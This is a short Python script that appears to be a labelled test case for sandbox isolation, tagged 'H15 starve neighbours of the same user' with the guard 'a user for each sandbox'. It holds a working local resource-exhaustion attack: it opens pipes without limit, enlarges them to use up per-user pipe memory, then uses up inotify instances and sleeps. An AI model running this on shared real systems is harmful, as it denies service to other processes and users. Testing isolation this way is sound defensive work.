"""Use up what the kernel grants one user: pages in pipes, and watches.

attack: H15 starve neighbours of the same user
guard: a user for each sandbox
ending: timed_out
"""

import ctypes
import fcntl
import os
import time

libc = ctypes.CDLL(None)
ends = []
try:
    while True:
        ends += os.pipe()
        fcntl.fcntl(ends[-1], 1031, 1 << 20)  # F_SETPIPE_SZ
except OSError:
    pass
try:
    while fcntl.fcntl(os.pipe()[1], 1032) == 65536:  # F_GETPIPE_SZ
        pass
except OSError:
    pass
while libc.inotify_init() >= 0:
    pass
time.sleep(1000)
